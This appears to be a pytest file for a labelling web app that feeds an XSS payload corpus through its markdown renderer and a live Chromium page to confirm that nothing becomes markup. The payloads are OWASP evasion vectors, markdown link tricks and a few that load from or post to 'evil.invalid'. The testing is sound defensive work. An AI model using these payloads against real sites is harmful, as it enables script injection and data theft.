"""Hostile text never becomes markup: an XSS corpus through the renderer, then through the real page.

The promise under test: no HTML from a model, a prompt or the guidelines reaches the page.
(a) Unit level: every corpus entry, rendered as markdown (app/services/rendering.py) and as
    conversation history, parses to nothing outside a small allow-list written out here (not
    imported, so widening the module's list shows up as a failure).
(b) In Chromium: the corpus as prompts, answers, a conversation and the guidelines, shown on the
    Label tab under the Content-Security-Policy (app/ui/csp.py). No payload runs (each sets
    `window.__xss` or calls alert), no element carries an on* attribute, nothing is fetched from
    anywhere but 127.0.0.1, and the page reports no CSP violation at all.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select

from odpo.app.services.admin import GUIDELINES_KEY
from odpo.app.services.label_text import conversation_html
from odpo.app.services.rendering import render_markdown
from odpo.db import store
from odpo.db.models import Prompt
from tests import ui_fixtures
from tests.db_helpers import sample

live_app = ui_fixtures.live_app  # fixtures, requested by name
browser = ui_fixtures.browser

# The three inputs the old regex sanitiser returned unchanged.
BYPASSES = [
    "`\\`<img src=x onerror=window.__xss=1>`",
    "```a`b\n<img src=x onerror=window.__xss=2>",
    "`\\`![t](http://evil.invalid/p.png)`",
]
# OWASP's XSS filter-evasion cheat sheet, the vectors that apply to a page that shows text.
OWASP = [
    "<script>window.__xss=3</script>",
    "<SCRIPT SRC=http://evil.invalid/xss.js></SCRIPT>",
    "<ScRiPt>window.__xss=4</sCrIpT>",
    "<scr<script>ipt>window.__xss=5</scr</script>ipt>",
    "<<SCRIPT>window.__xss=6;//<</SCRIPT>",
    '<IMG """><SCRIPT>window.__xss=7</SCRIPT>">',
    "<img src=x onerror=window.__xss=8>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:window.__xss=9">',
    '<img src=x onerror="&#119;indow.__xss=10">',
    "<img src=`x` onerror=window.__xss=11>",
    "<svg onload=window.__xss=12>",
    "<svg><script>window.__xss=13</script></svg>",
    '<iframe srcdoc="<script>parent.__xss=14</script>"></iframe>',
    '<iframe src="javascript:parent.__xss=15"></iframe>',
    "<body onload=window.__xss=16>",
    '<a href="javascript:window.__xss=17">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=18">click</a>',
    '<a href="jav&#x09;ascript:window.__xss=19">click</a>',
    '<div style="background:url(javascript:window.__xss=20)">x</div>',
    '<div style="width: expression(window.__xss=21)">x</div>',
    '<style>@import "http://evil.invalid/x.css";</style>',
    '<link rel=stylesheet href="http://evil.invalid/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=22">',
    '<base href="http://evil.invalid/">',
    '<form action="http://evil.invalid/steal"><input name=p><button>go</button></form>',
    '<object data="javascript:window.__xss=23"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MjQ8L3NjcmlwdD4=">',
    "<details open ontoggle=window.__xss=25>x</details>",
    "<input autofocus onfocus=window.__xss=26>",
    '<video><source onerror="window.__xss=27"></video>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=28>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=29>">',
    "<!--<img src=x onerror=window.__xss=30>-->",
]
# Markdown's own ways to a link, an image or raw HTML.
MARKDOWN = [
    "[click](javascript:window.__xss=31)",
    "[click](JaVaScRiPt:window.__xss=32)",
    "[click](&#106;avascript:window.__xss=33)",
    "[click](<java\tscript:window.__xss=34>)",
    "[click](vbscript:msgbox(35))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[home](/logout) and [here](#x)",
    "<javascript:window.__xss=36>",
    "![pixel](http://evil.invalid/p.png)",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    '![x](x" onerror="window.__xss=37)',
    "[ref][r1]\n\n[r1]: javascript:window.__xss=38",
    "![ref][i1]\n\n[i1]: http://evil.invalid/ref.png",
    "[![nested](http://evil.invalid/i.png)](javascript:window.__xss=39)",
    '[t](http://ok.invalid/ "a\\" onmouseover=\\"window.__xss=40")',
    "`<img src=x onerror=window.__xss=41>` and ``<script>window.__xss=42</script>``",
    "```html\n<script>window.__xss=43</script>\n```",
    "~~~\n<img src=x onerror=window.__xss=44>\n~~~",
    "    <iframe src=javascript:window.__xss=45>",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=46> | [x](javascript:window.__xss=47) |",
    "> <svg onload=window.__xss=48>",
    "* <b onmouseover=window.__xss=49>list</b>",
    "# <script>window.__xss=50</script>",
    "<div>\n\n<img src=x onerror=window.__xss=51>\n\n</div>",
]
CORPUS = BYPASSES + OWASP + MARKDOWN

# What the rendered HTML may hold: tags, and the attributes each may carry.
TAGS = {"p", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
        "hr", "br", "a", "table", "thead", "tbody", "tr", "th", "td", "del", "s", "small",
        "details", "summary", "div", "span"}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"class"}, "td": {"class"},
              "div": {"class"}, "span": {"class"}, "details": {"class"}}
LINK = re.compile(r"^(https?://|mailto:)", re.IGNORECASE)


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer sees them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str]]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, [(k, v or "") for k, v in attrs]))


def problems(html: str) -> list[str]:
    """What in `html` is outside the allow-list (empty when it is safe to show)."""
    out = []
    for tag, attrs in Elements(html).found:
        if tag not in TAGS:
            out.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name not in ATTRIBUTES.get(tag, set()):
                out.append(f"<{tag} {name}={value!r}>")
            if name == "href" and not LINK.match(value):
                out.append(f"<{tag} href={value!r}>")
    return out


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
def test_rendered_markdown_holds_nothing_outside_the_allow_list(text):
    for breaks in (False, True):
        html = render_markdown(text, breaks=breaks)
        assert problems(html) == [], html


def test_the_conversation_history_holds_nothing_outside_the_allow_list():
    turns = [{"role": ("user", "assistant")[i % 2], "content": text} for i, text in enumerate(CORPUS)]
    turns.append({"role": '"><img src=x onerror=window.__xss=52>', "content": "odd role"})
    html = conversation_html(turns)
    assert problems(html) == [] and html.startswith('<details class="odpo-context">')


def test_images_are_text_and_only_web_links_stay_links():
    assert render_markdown("![a cat](http://evil.invalid/cat.png)") == \
        "<p>[image: a cat — http://evil.invalid/cat.png]</p>\n"
    assert render_markdown("[x](javascript:alert(1))") == "<p>[x](javascript:alert(1))</p>\n"  # not a link at all
    assert render_markdown("[ftp](ftp://x.invalid/f)") == "<p>ftp (ftp://x.invalid/f)</p>\n"
    assert render_markdown("<https://ok.invalid/a>") == \
        '<p><a href="https://ok.invalid/a" rel="noopener noreferrer nofollow">https://ok.invalid/a</a></p>\n'


# --- in Chromium ---------------------------------------------------------------------------------

WATCH_JS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""
ON_ATTRIBUTES_JS = """() => [...document.querySelectorAll('*')].flatMap((el) =>
  [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => el.tagName + ' ' + a.name))"""
CONTENT = "#odpo-slot-0, #odpo-slot-1, #odpo-guidelines-text"
FORBIDDEN = "img, script, iframe, object, embed, svg, math, style, link, meta, base, form, input, video"
BOTH_SLOTS = "[0, 1].map((i) => document.querySelector('#odpo-slot-' + i)?.innerText || '').join('')"
SETTLED_JS = "() => window.odpo && window.odpo.lock.seq === null"  # the server answered the last vote


def seed(db, corpus: list[str], pairs: int) -> None:
    """The corpus as `pairs` pairs (prompt, answer A and answer B each hold a share; the first
    pair is a conversation whose earlier turns hold one more), and as the admin's guidelines."""
    shares = ["\n\n".join(corpus[i::pairs * 4]) for i in range(pairs * 4)]
    with db.sessions.begin() as s:
        for i in range(pairs):
            history, prompt, a, b = shares[i * 4:i * 4 + 4]
            context, text = (), f"{history}\n\n{prompt}"
            if i == 0:  # a conversation: the history share goes into its earlier turns
                context, text = ({"role": "user", "content": history}, {"role": "assistant", "content": "Ok."}), prompt
            store.add_prompts(s, prompts=[store.NewPrompt(text=text, context=context)])
            prompt_id = s.scalar(select(Prompt.id).where(Prompt.text_hash == store.prompt_hash(text, context)))
            store.add_pair(s, prompt_id=prompt_id, version=0, a=sample(a), b=sample(b))
        store.set_control(s, key=GUIDELINES_KEY, value={"text": "\n\n".join(corpus), "by": "admin"})


@pytest.mark.browser
@pytest.mark.timeout(180)
def test_the_page_shows_the_corpus_as_text_and_nothing_runs_or_leaves(live_app, browser):
    pairs = 3
    seed(live_app.db, CORPUS, pairs)
    ctx = browser.new_context(viewport={"width": 1280, "height": 900})
    ctx.add_init_script(WATCH_JS)
    page = ctx.new_page()
    hosts, dialogs = set(), []
    page.on("request", lambda r: hosts.add(urlsplit(r.url).hostname or urlsplit(r.url).scheme))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        response = page.goto(live_app.url)
        assert "script-src 'self' 'nonce-" in response.headers["content-security-policy"]
        page.wait_for_function(f"() => ({BOTH_SLOTS}.match(/policy v0/g) || []).length === 2")  # on screen, and next
        page.wait_for_function(SETTLED_JS)
        page.click("#odpo-guidelines button, #odpo-guidelines .label-wrap")
        page.wait_for_function("() => !(document.querySelector('#odpo-guidelines-text')?.innerText || 'Pick the')"
                               ".includes('Pick the')")  # the stored guidelines, not the built-in ones
        page.locator("body").click(position={"x": 5, "y": 5})  # out of any field: the shortcuts apply
        for _ in range(pairs - 1):  # each skip brings one more pair into the page
            check_page(page, dialogs)
            before = page.evaluate(f"() => {BOTH_SLOTS}")
            page.keyboard.press("s")
            page.wait_for_function(f"(before) => {BOTH_SLOTS} !== before", arg=before)
            page.wait_for_function(SETTLED_JS)
        check_page(page, dialogs)
        assert "127.0.0.1" in hosts and hosts <= {"127.0.0.1", "data", "blob"}, hosts  # data:/blob: never leave
    finally:
        ctx.close()


def check_page(page, dialogs: list) -> None:
    """Nothing ran, nothing is markup that could run or fetch, no CSP violation; the text is there."""
    page.wait_for_timeout(150)  # an onerror would fire once its image failed: give it the time to
    assert page.evaluate("() => window.__xss") is None and dialogs == []
    assert page.evaluate(ON_ATTRIBUTES_JS) == []
    assert page.locator(f":is({CONTENT}) :is({FORBIDDEN})").count() == 0
    hrefs = page.eval_on_selector_all(f":is({CONTENT}) a", "els => els.map(e => e.getAttribute('href'))")
    assert all(LINK.match(h or "") for h in hrefs), hrefs
    assert page.evaluate("() => window.__csp") == []
    # The payloads are on the page, as text.
    assert "window.__xss=" in page.evaluate(f"() => {BOTH_SLOTS}")
    assert "onerror=window.__xss=51" in page.inner_text("#odpo-guidelines-text")
